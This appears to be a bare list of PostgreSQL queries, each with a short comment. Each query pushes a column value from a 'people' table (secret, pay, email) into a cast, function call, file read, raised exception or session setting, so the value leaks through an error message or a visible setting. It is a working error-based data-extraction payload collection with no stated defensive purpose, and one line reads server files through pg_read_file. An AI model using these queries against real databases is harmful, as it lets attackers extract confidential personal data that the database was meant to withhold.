--- a relation of the name
SELECT secret::regclass FROM people
--- a type of the name
SELECT secret::regtype FROM people
--- a function of the name
SELECT secret::regproc FROM people
--- a role of the name
SELECT secret::regrole FROM people
--- a schema of the name
SELECT secret::regnamespace FROM people
--- a configuration of the name
SELECT secret::regconfig FROM people
--- a setting of the name
SELECT current_setting(secret) FROM people
--- a sequence of the name
SELECT nextval(secret) FROM people
--- a database of the name
SELECT has_database_privilege(secret, 'connect') FROM people
--- a column of the name
SELECT pg_get_serial_sequence('people', secret) FROM people
--- a cursor of the name
SELECT cursor_to_xml(secret::refcursor, 1, true, true, '') FROM people
--- a file of the name
SELECT pg_read_file(secret) FROM people
--- a name without quotes
SELECT to_regclass(secret || '.a.b.c') FROM people
--- a query for texts
SELECT to_tsquery('a b ' || secret) FROM people
--- a statement of it
SELECT query_to_xml('select * from ' || secret, true, true, '') FROM people
--- a statement that finds no column
SELECT * FROM people, ts_stat('select ' || secret)
--- a number in a date
SELECT make_date(1, pay, 1) FROM people
--- a number as a character
SELECT chr(pay) FROM people
--- a number as a place
SELECT get_byte('\x00', pay) FROM people
--- a number of an object
SELECT lo_get(pay::oid) FROM people
--- an e-mail address as the name of a constraint
DO $$ BEGIN RAISE EXCEPTION 'x' USING CONSTRAINT = (SELECT email FROM people); END $$
--- a setting that the target tells of
SELECT set_config('application_name', email, false) FROM people
